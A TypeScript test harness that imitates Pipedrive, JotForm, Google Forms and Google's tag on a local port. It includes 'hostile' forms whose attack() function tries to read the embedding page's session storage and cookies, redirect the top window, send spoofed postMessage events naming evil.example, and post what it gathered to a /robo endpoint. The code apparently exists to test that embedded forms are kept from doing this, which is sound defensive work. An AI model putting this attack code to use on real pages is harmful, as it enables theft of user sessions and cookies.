/**
 * Stands in for Pipedrive, JotForm, Google Forms and Google's tag, on a port of its own ($PROVIDERS_PORT).
 * EMBED_STAND_INS makes the product of the journeys use it (see product.ts), so that the product reaches no real
 * provider. Beside it runs the company's mail server ($MAIL_PORT), which accepts mail for the company and passes
 * nothing on. Links are written as in reality (https://webforms.pipedrive.com/f/amable); the product requests the same
 * path here.
 *
 * The id of a form in `FORMS` decides what it does: behave, attack the page that shows it, or never answer. What was
 * sent, and what an attack could read, is stored and returned by `seenByProviders()`.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { pathToFileURL } from 'node:url';

/** Links of forms, as an administrator pastes them. */
export const FORMS = {
  pipedrive: {
    good: 'https://webforms.pipedrive.com/f/amable',
    hostile: 'https://webforms.pipedrive.com/f/hostil',
    silent: 'https://webforms.pipedrive.com/f/callado',
  },
  jotform: {
    good: 'https://form.jotform.com/1000',
    hostile: 'https://form.jotform.com/6660',
    silent: 'https://form.jotform.com/4040',
  },
  google: {
    good: 'https://docs.google.com/forms/d/e/amable/viewform',
    hostile: 'https://docs.google.com/forms/d/e/hostil/viewform',
    silent: 'https://docs.google.com/forms/d/e/callado/viewform',
  },
} as const;

/** Numbers of `FormType`. */
export const FORM_TYPES = { pipedrive: 1, jotform: 2, google: 3 } as const;

/** The height that the forms report, in pixels. Google's reports nothing. */
export const FORM_HEIGHT = 640;

/** A request that reached the providers: its path, parameters and body. */
export interface Seen {
  path: string;
  query: Record<string, string>;
  body: string;
}

/** All requests to the providers so far, oldest first. `origin` is `http://127.0.0.1:$PROVIDERS_PORT`. */
export async function seenByProviders(origin = `http://127.0.0.1:${process.env.PROVIDERS_PORT}`): Promise<Seen[]> {
  return (await (await fetch(`${origin}/seen`)).json()) as Seen[];
}

/** A mail that the company, a client or a chef received. */
export interface Mail {
  to: string[];
  text: string;
  /** The calendar file that came with it; empty where none did. */
  calendar: string;
}

/** All mails to the company, to clients and to chefs so far, oldest first. */
export async function mails(origin = `http://127.0.0.1:${process.env.PROVIDERS_PORT}`): Promise<Mail[]> {
  return (await (await fetch(`${origin}/mails`)).json()) as Mail[];
}

/** The product's setting that leads every provider here. */
export const standIns = (port: string): string =>
  ['pipedrive', 'jotform', 'google', 'analytics'].map((name) => `${name}=http://127.0.0.1:${port}`).join(',');

/** Like Pipedrive's loader: adds a frame beside itself and gives it the height that the form reports. */
const LOADER = `(() => {
  const place = document.currentScript.parentElement;
  const frame = document.createElement('iframe');
  frame.title = 'Formulario';
  frame.style.height = '100px';
  const link = new URL(place.dataset.pdWebforms);
  for (const [name, value] of Object.entries(window.pd_webform ?? {})) link.searchParams.set('hidden_' + name, value);
  frame.src = link.href;
  window.addEventListener('message', ({ source, data }) => {
    if (source === frame.contentWindow && data?.height) frame.style.height = data.height + 'px';
  });
  place.append(frame);
  if (link.pathname.includes('hostil')) (${attack.toString()})();
})();`;

/** As Google's tag: knows the visitor by cookies with the flags it is given, and sends what was pushed, now and later, to its collector. */
const TAG = `(() => {
  const consent = {};
  const take = (given) => {
    const [command, name, more] = Array.from(given);
    if (command === 'consent') Object.assign(consent, more);
    if (command === 'config')
      for (const cookie of ['_ga=GA1.1.1.1', '_ga_SOBREMESA1=GS1.1.1'])
        document.cookie = cookie + '; Max-Age=63072000; Path=/; ' + more.cookie_flags;
    if (command !== 'event') return;
    const query = new URLSearchParams({ en: name, dl: more.page_location ?? '', dt: more.page_title ?? '', to: more.send_to ?? '', gcs: consent.analytics_storage });
    void fetch(new URL('/g/collect?' + query, document.querySelector('script[src*="/gtag/js"]').src), { method: 'POST', mode: 'no-cors' });
  };
  window.dataLayer.forEach(take);
  const push = window.dataLayer.push.bind(window.dataLayer);
  window.dataLayer.push = (given) => { take(given); return push(given); };
})();`;

/**
 * What a hostile provider would try, from its script or from its frame. It sends home what it could read. It runs in
 * the browser, so it cannot use anything of this file.
 */
function attack(): void {
  const got: string[] = [];
  const attempt = (name: string, work: () => unknown): void => {
    try {
      const result = work();
      if (result !== undefined && result !== null) got.push(`${name}: ${JSON.stringify(result)}`);
    } catch {
      // The browser refuses this, as it should.
    }
  };
  attempt('session of the page', () => window.parent.localStorage.getItem('user'));
  attempt('session of the top page', () => window.top?.localStorage.getItem('user'));
  attempt('own storage', () => localStorage.getItem('user'));
  attempt('markup of the page', () => window.parent.document.title);
  attempt('cookies', () => document.cookie || undefined);
  attempt('navigation of the top page', () => {
    if (window.top) window.top.location.href = `${location.origin}/robado`;
  });
  attempt('navigation by link', () => {
    const link = document.createElement('a');
    [link.href, link.target] = [`${location.origin}/robado`, '_top'];
    document.body.append(link);
    link.click();
  });
  for (const target of [window.parent, window.top])
    target?.postMessage({ from: 'sobremesa', type: 'conversion', location: 'https://evil.example' }, '*');
  const home = document.querySelector<HTMLElement>('[data-pd-webforms]')?.dataset.pdWebforms ?? location.href;
  void fetch(new URL('/robo', home), { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
}

/** A form of Pipedrive or JotForm: reports its height in that provider's way, and that it was sent. */
function formPage(provider: 'pipedrive' | 'jotform', path: string, query: URLSearchParams): string {
  const messages = {
    pipedrive: [`{ type: 'resize', height: ${FORM_HEIGHT} }`, `{ type: 'form:submitted' }`],
    jotform: [`'setHeight:${FORM_HEIGHT}:${path.split('/').at(-1)}'`, `{ action: 'submission-completed' }`],
  }[provider];
  const [ready, sent] = messages.map((message) => `window.parent.postMessage(${message}, '*');`);
  return `${HEAD}
<form method="post" action="${escaped(path)}">${hidden(query)}${EMAIL} <button>Enviar formulario</button></form>
<script>
${ready ?? ''}
${/hostil|6660/.test(path) ? `(${attack.toString()})();` : ''}
document.querySelector('form').addEventListener('submit', (event) => {
  event.preventDefault();
  const form = event.target;
  void fetch(form.action, { method: 'POST', body: new URLSearchParams(new FormData(form)) }).then(() => {
    document.body.textContent = '${THANKS}';
    ${sent ?? ''}
  });
});
</script></html>`;
}

/**
 * A form of Google in two sections. Each is posted to …/formResponse, which answers with the next page. Neither the
 * second section nor the last page sends a message to the page around the frame.
 */
function googlePage(path: string, fields: URLSearchParams): string {
  const answered = fields.get('pageHistory');
  if (answered === '0,1') return `${HEAD}<p>${THANKS}</p></html>`;
  const first = answered === null;
  const given = new URLSearchParams(fields);
  given.set('pageHistory', first ? '0' : '0,1');
  const section = first
    ? `${EMAIL} <button>Siguiente</button>`
    : '<label>Tu mensaje <input name="mensaje"></label> <button>Enviar formulario</button>';
  return `${HEAD}
<form method="post" action="${escaped(path.replace(/viewform$/, 'formResponse'))}">${hidden(given)}${section}</form>
${path.includes('hostil') ? `<script>(${attack.toString()})();</script>` : ''}</html>`;
}

const HEAD = '<!doctype html><html lang="es"><meta charset="utf-8"><title>Formulario de prueba</title>';
const EMAIL = '<label>Tu correo <input name="correo" type="email" required></label>';
const THANKS = 'Gracias, recibimos tu respuesta.';

const hidden = (fields: URLSearchParams): string =>
  [...fields]
    .map(([name, value]) => `<input type="hidden" name="${escaped(name)}" value="${escaped(value)}">`)
    .join('');

const escaped = (text: string): string => text.replace(/[&<>"]/g, (character) => `&#${character.codePointAt(0) ?? 0};`);

/** The company's own addresses, and those of clients and of the demo's chefs. */
const KNOWN = /@(sobremesa|correo|cocina)\.example$/;

/** Mail to people whose address begins with this word is put off, as by a server that is busy. */
export const BUSY = 'ocupada';

/** What the mail server says to a reader. */
function refusalOf(address: string): Error | null {
  if (address.startsWith(BUSY)) return Object.assign(new Error('Try again later'), { responseCode: 451 });
  return KNOWN.test(address) ? null : new Error('Relaying denied');
}

const seen: Seen[] = [];
let got: () => Mail[] = () => [];

async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const { pathname, searchParams } = new URL(request.url ?? '/', 'http://127.0.0.1');
  response.setHeader('Access-Control-Allow-Origin', '*');
  if (pathname === '/seen') return void response.end(JSON.stringify(seen));
  if (pathname === '/mails') return void response.end(JSON.stringify(got()));
  const body = (await request.toArray()).join('');
  seen.push({ path: pathname, query: Object.fromEntries(searchParams), body });
  if (/callado|4040/.test(pathname)) return; // Never answers.
  const [type, text] = contentOf(pathname, body === '' ? searchParams : new URLSearchParams(body));
  response.setHeader('Content-Type', `${type}; charset=utf-8`);
  response.end(request.method === 'HEAD' ? undefined : text);
}

function contentOf(path: string, fields: URLSearchParams): [type: string, text: string] {
  if (path === '/f/loader') return ['text/javascript', LOADER];
  if (path === '/gtag/js') return ['text/javascript', TAG];
  if (path.startsWith('/f/')) return ['text/html', formPage('pipedrive', path, fields)];
  if (path.startsWith('/forms/')) return ['text/html', googlePage(path, fields)];
  if (/^\/\d+$/.test(path)) return ['text/html', formPage('jotform', path, fields)];
  return ['text/plain', ''];
}

/**
 * Starts the mail server of the API's tests. It is loaded here, so that tests which only read requests do not load it.
 */
async function receiveMail(port: number): Promise<void> {
  const { partsOf, startMailServer } = await import('../../../backend/test/harness/mail-server.ts');
  const { received } = await startMailServer(
    { onRcptTo: ({ address }, _session, done) => done(refusalOf(address)) },
    port,
  );
  got = () =>
    received.map((mail) => {
      const { 'text/plain': text = '', 'text/calendar': calendar = '' } = partsOf(mail);
      return { to: mail.to, text, calendar };
    });
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  await receiveMail(Number(process.env.MAIL_PORT));
  createServer((request, response) => void answer(request, response)).listen(
    Number(process.env.PROVIDERS_PORT),
    '127.0.0.1',
  );
}
